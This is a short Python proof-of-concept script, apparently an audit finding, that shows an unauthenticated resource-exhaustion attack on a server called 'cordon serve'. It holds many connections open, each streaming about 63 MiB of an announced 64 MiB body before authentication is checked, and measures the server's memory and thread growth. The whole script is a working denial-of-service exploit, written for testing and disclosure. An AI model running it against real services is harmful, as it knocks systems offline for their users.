#!/usr/bin/env python3
"""F4: an unauthenticated client makes cordon serve buffer up to 64 MiB per
connection before the 401 (body read before auth), and holds connections
open forever (no connection timeout). Usage: 04-serve-unauth-body.py PORT PID N"""
import socket, sys, time
port, pid, n = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"): return l.strip()
print("before", rss())
socks = []
chunk = b"A" * (1 << 20)
for i in range(n):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"POST /v1/sessions HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (64 << 20))
    for _ in range(63):
        s.sendall(chunk)
    socks.append(s)  # never finish: the server waits forever
time.sleep(1)
print("after %d unauthenticated connections" % n, rss())
print("threads", len(__import__("os").listdir(f"/proc/{pid}/task")))
